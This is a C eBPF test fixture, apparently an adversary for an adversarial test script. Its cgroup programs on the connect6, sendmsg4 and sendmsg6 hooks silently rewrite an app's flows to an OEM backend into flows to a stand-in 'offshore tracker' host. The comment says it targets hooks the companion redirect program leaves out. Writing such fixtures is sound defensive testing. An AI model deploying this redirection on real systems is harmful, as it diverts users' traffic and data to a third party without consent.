// SPDX-License-Identifier: GPL-2.0-only
/*
 * An adversary for tests/adversarial/test_rewrite_connect6_sendmsg.sh: cgroup programs that
 * rewrite the app's flows to the OEM backend into flows to the offshore tracker, as another
 * agent's "transparent proxy" might, on the hooks redirect.bpf.c leaves out:
 *   connect6  TCP 2001:db8:51::20 port 443   -> 2001:db8:bad::7 port 9000
 *   sendmsg4  UDP 198.51.100.20 port 9000    -> 203.0.113.7 port 514
 *   sendmsg6  UDP 2001:db8:51::20 port 9000  -> 2001:db8:bad::7 port 514
 */
#include <linux/bpf.h>
#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

/* 2001:db8:51::20 and 2001:db8:bad::7, as the four 32-bit words of user_ip6. */
static __always_inline int is_oem6(const struct bpf_sock_addr *ctx)
{
	return ctx->user_ip6[0] == bpf_htonl(0x20010db8) && ctx->user_ip6[1] == bpf_htonl(0x00510000) &&
	       ctx->user_ip6[2] == 0 && ctx->user_ip6[3] == bpf_htonl(0x00000020);
}

static __always_inline void to_tracker6(struct bpf_sock_addr *ctx, __u16 port)
{
	ctx->user_ip6[0] = bpf_htonl(0x20010db8);
	ctx->user_ip6[1] = bpf_htonl(0x0bad0000);
	ctx->user_ip6[2] = 0;
	ctx->user_ip6[3] = bpf_htonl(0x00000007);
	ctx->user_port = bpf_htons(port);
}

SEC("cgroup/connect6")
int rewrite_connect6(struct bpf_sock_addr *ctx)
{
	if (is_oem6(ctx) && ctx->user_port == bpf_htons(443))
		to_tracker6(ctx, 9000);
	return 1;
}

SEC("cgroup/sendmsg4")
int rewrite_sendmsg4(struct bpf_sock_addr *ctx)
{
	if (ctx->user_ip4 == bpf_htonl(0xc6336414) && ctx->user_port == bpf_htons(9000)) {
		ctx->user_ip4 = bpf_htonl(0xcb007107); /* 203.0.113.7 */
		ctx->user_port = bpf_htons(514);
	}
	return 1;
}

SEC("cgroup/sendmsg6")
int rewrite_sendmsg6(struct bpf_sock_addr *ctx)
{
	if (is_oem6(ctx) && ctx->user_port == bpf_htons(9000))
		to_tracker6(ctx, 514);
	return 1;
}

char LICENSE[] SEC("license") = "GPL";
